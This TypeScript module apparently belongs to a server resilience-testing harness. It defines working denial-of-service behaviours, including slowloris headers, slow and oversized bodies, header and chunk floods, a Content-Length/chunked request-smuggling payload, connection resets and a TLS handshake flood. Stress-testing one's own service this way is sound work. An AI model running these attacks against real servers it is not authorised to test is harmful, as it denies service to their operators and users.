import { setTimeout as sleep } from 'node:timers/promises'
import { connect as connectTls } from 'node:tls'
import { type AttackCounts, type AttackPlan, attackWith, type Behaviour } from './crowd.ts'

const head = 'POST / HTTP/1.1\r\nHost: h\r\nContent-Type: application/x-amz-json-1.1\r\n'
const chunkedHead = `${head}Transfer-Encoding: chunked\r\n\r\n`

/** Sends the same data again and again while the connection is open. */
const forever =
  (start: string, more: string | Buffer): Behaviour =>
  async ({ send, goesOn }) => {
    await send(start)
    while (goesOn()) await send(more)
  }

/** Sends a little data at a time, with a pause between. */
const slowly =
  (start: string, more: string, pauseMillis: number): Behaviour =>
  async ({ send, goesOn }) => {
    await send(start)
    while (goesOn()) {
      await sleep(pauseMillis)
      await send(more)
    }
  }

const smallChunks = '1\r\nx\r\n'.repeat(3000)
const pieces = 'y'.repeat(64 * 1024)

/** One attack: what each of its connections does, or all of it. */
type Attack = (plan: AttackPlan) => Promise<AttackCounts>

const each =
  (behave: (plan: AttackPlan) => Behaviour): Attack =>
  plan =>
    attackWith(plan, behave(plan))

/** The attacks by their names. */
export const attacks = {
  /** Slowloris: heads that never end. */
  slowHeads: each(() => slowly(head, 'X-A: b\r\n', 200)),
  /** Bodies that arrive byte by byte. */
  slowBodies: each(() => slowly(`${head}Content-Length: 900000\r\n\r\n`, 'x', 200)),
  /** Heads with headers without an end. */
  headerFloods: each(() => forever(head, 'X-A: b\r\n'.repeat(500))),
  /** Bodies as large as a server takes, which no signature pays for. */
  largeBodies: each(() => forever(`${head}Content-Length: 1048576\r\n\r\n`, pieces)),
  /** Bodies that declare far more than the limit. */
  oversizedBodies: each(() => forever(`${head}Content-Length: 99999999999\r\n\r\n`, pieces)),
  /** Bodies of a million chunks. */
  tinyChunks: each(() => forever(chunkedHead, smallChunks)),
  /** A second request in a body, once by its length and once by its chunks. */
  smuggledBodies: each(() =>
    forever(
      '',
      `${head}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\n\r\n`,
    ),
  ),
  chunkExtensions: each(() => forever(`${chunkedHead}1;`, 'e'.repeat(16 * 1024))),
  trailers: each(() => forever(`${chunkedHead}0\r\n`, 'X-T: t\r\n'.repeat(500))),
  /** Requests without a signature, many at a time. Their answers are read. */
  pipelines: each(() => forever('', `${head}Content-Length: 2\r\n\r\n{}`.repeat(200))),
  /** Clients that have closed their side, or never send. */
  halfOpen: each(() => async ({ socket, send, closed }) => {
    if (Math.random() < 0.5) await send(head)
    socket.end()
    await closed
  }),
  silent: each(
    () =>
      ({ closed }) =>
        closed,
  ),
  /** Connections that are reset as soon as they are open, some with half a request. */
  resets: each(() => async ({ socket, send }) => {
    await new Promise(done => socket.once('connect', done).once('close', done))
    if (Math.random() < 0.5) await send(`${head}Content-Length: 5\r\n\r\n`)
    socket.resetAndDestroy()
  }),
  /** Signed requests with large answers, which nobody reads. */
  slowReaders: each(({ request }) => async ({ socket, send, goesOn }) => {
    socket.pause()
    while (goesOn()) await send(Buffer.concat(Array.from({ length: 100 }, () => request)))
  }),
  /** TLS handshakes that end before their cost is paid back. */
  handshakes: handshakeFlood,
} as const satisfies Record<string, Attack>

export type AttackName = keyof typeof attacks

/** The most handshakes that are begun per second. */
const handshakesPerSecondMax = 200

async function handshakeFlood({ url, seconds, connections }: AttackPlan): Promise<AttackCounts> {
  const { hostname, port } = new URL(url)
  const counts: AttackCounts = { opened: 0, closed: 0, written: 0, read: 0 }
  const start = performance.now()
  const isOver = () => performance.now() >= start + seconds * 1000
  const keepOne = async () => {
    while (!isOver()) {
      const allowed = ((performance.now() - start) / 1000 + 0.1) * handshakesPerSecondMax
      if (counts.opened >= allowed) {
        await sleep(5)
        continue
      }
      counts.opened++
      const socket = connectTls({ host: hostname, port: Number(port), rejectUnauthorized: false })
      socket.on('error', () => {})
      await new Promise(done => socket.once('secureConnect', done).once('close', done))
      if (socket.destroyed) counts.closed++
      socket.destroy()
    }
  }
  await Promise.all(Array.from({ length: connections }, keepOne))
  return counts
}
